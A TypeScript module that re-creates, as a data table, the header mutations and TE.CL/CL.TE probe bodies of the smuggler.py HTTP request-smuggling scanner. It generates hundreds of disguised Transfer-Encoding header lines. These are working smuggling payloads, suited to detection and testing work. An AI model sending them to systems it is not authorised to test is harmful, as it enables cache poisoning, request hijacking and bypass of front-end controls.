// The mutation families of defparam's smuggler.py (configs/default.py,
// exhaustive.py, doubles.py; github.com/defparam/smuggler), rebuilt here as
// data: each is one "gadget" header line placed before Host in a POST that
// also carries Content-Length. Written from reading the tool, not copied.
export interface Gadget {
  family: 'default' | 'exhaustive' | 'doubles';
  name: string;
  line: string;
}

const hex = (i: number) => i.toString(16).padStart(2, '0');
const ch = (i: number) => String.fromCharCode(i);
/** Control bytes 0x01–0x1f (doubles.py also takes 0x20) and 0x7f–0xff. */
const range = (from: number, to: number) => Array.from({ length: to - from }, (_, k) => from + k);

export function smugglerGadgets(): Gadget[] {
  const out: Gadget[] = [];
  const add = (family: Gadget['family'], name: string, line: string) => out.push({ family, name, line });
  const TE = 'Transfer-Encoding';

  // default.py
  add('default', 'nameprefix1', ` ${TE}: chunked`);
  add('default', 'tabprefix1', `${TE}:\tchunked`);
  add('default', 'tabprefix2', `${TE}\t:\tchunked`);
  add('default', 'space1', `${TE} : chunked`);
  for (const i of [0x1, 0x4, 0x8, 0x9, 0xa, 0xb, 0xc, 0xd, 0x1f, 0x20, 0x7f, 0xa0, 0xff]) {
    const c = ch(i);
    add('default', `midspace-${hex(i)}`, `${TE}:${c}chunked`);
    add('default', `postspace-${hex(i)}`, `${TE}${c}: chunked`);
    add('default', `prespace-${hex(i)}`, `${c}${TE}: chunked`);
    add('default', `endspace-${hex(i)}`, `${TE}: chunked${c}`);
    add('default', `xprespace-${hex(i)}`, `X: X${c}${TE}: chunked`);
    add('default', `endspacex-${hex(i)}`, `${TE}: chunked${c}X: X`);
    add('default', `rxprespace-${hex(i)}`, `X: X\r${c}${TE}: chunked`);
    add('default', `xnprespace-${hex(i)}`, `X: X${c}\n${TE}: chunked`);
    add('default', `endspacerx-${hex(i)}`, `${TE}: chunked\r${c}X: X`);
    add('default', `endspacexn-${hex(i)}`, `${TE}: chunked${c}\nX: X`);
  }

  // exhaustive.py: the named ones…
  const named: [string, string][] = [
    ['nameprefix1', ` ${TE}: chunked`],
    ['tabprefix1', `${TE}:\tchunked`],
    ['tabprefix2', `${TE}\t:\tchunked`],
    ['spacejoin1', 'Transfer Encoding: chunked'],
    ['underjoin1', 'Transfer_Encoding: chunked'],
    ['smashed', 'Transfer Encoding:chunked'],
    ['space1', `${TE} : chunked`],
    ['valueprefix1', `${TE}:  chunked`],
    ['vertprefix1', `${TE}:\u000bchunked`],
    ['commaCow', `${TE}: chunked, cow`],
    ['cowComma', `${TE}: cow, chunked`],
    ['contentEnc', 'Content-Encoding: chunked'],
    ['linewrapped1', `${TE}:\n chunked`],
    ['quoted', `${TE}: "chunked"`],
    ['aposed', `${TE}: 'chunked'`],
    ['lazygrep', `${TE}: chunk`],
    ['sarcasm', 'TrAnSFer-EnCODinG: cHuNkeD'],
    ['yelling', 'TRANSFER-ENCODING: CHUNKED'],
    ['0dsuffix', `${TE}: chunked\r`],
    ['tabsuffix', `${TE}: chunked\t`],
    ['revdualchunk', `${TE}: cow\r\n${TE}: chunked`],
    ['0dspam', 'Transfer\r-Encoding: chunked'],
    ['nested', `${TE}: cow chunked bar`],
    ['spaceFF', `${TE}:\u00ffchunked`],
    ['accentCH', `${TE}: ch\u0096nked`],
    ['accentTE', 'Transf\u0082r-Encoding: chunked'],
    ['x-rout', `X:X\r${TE}: chunked`],
    ['x-nout', `X:X\n${TE}: chunked`],
  ];
  for (const [n, l] of named) add('exhaustive', n, l);
  // …and every control or high byte in four places.
  for (const i of [...range(0x1, 0x20), ...range(0x7f, 0x100)]) {
    const c = ch(i);
    add('exhaustive', `midspace-${hex(i)}`, `${TE}:${c}chunked`);
    add('exhaustive', `postspace-${hex(i)}`, `${TE}${c}: chunked`);
    add('exhaustive', `prespace-${hex(i)}`, `${c}${TE}: chunked`);
    add('exhaustive', `endspace-${hex(i)}`, `${TE}: chunked${c}`);
  }

  // doubles.py: the same byte in two of the four places.
  for (const i of [...range(0x1, 0x21), ...range(0x7f, 0x100)]) {
    const c = ch(i);
    const x = hex(i);
    add('doubles', `${x}-${x}-XX-XX`, `${c}${TE}${c}: chunked`);
    add('doubles', `${x}-XX-${x}-XX`, `${c}${TE}:${c}chunked`);
    add('doubles', `${x}-XX-XX-${x}`, `${c}${TE}: chunked${c}`);
    add('doubles', `XX-${x}-${x}-XX`, `${TE}${c}:${c}chunked`);
    add('doubles', `XX-${x}-XX-${x}`, `${TE}${c}: chunked${c}`);
    add('doubles', `XX-XX-${x}-${x}`, `${TE}:${c}chunked${c}`);
  }
  return out;
}

/** smuggler.py's two probes per gadget, attack and edge value each: TE.CL and CL.TE. */
export const PROBES: { name: string; contentLength: number; body: string }[] = [
  { name: 'TECL attack', contentLength: 6, body: '0\r\n\r\nX' },
  { name: 'TECL edge', contentLength: 5, body: '0\r\n\r\nX' },
  { name: 'CLTE attack', contentLength: 4, body: '1\r\nZ\r\n0\r\n\r\n' },
  { name: 'CLTE edge', contentLength: 11, body: '1\r\nZ\r\n0\r\n\r\n' },
];
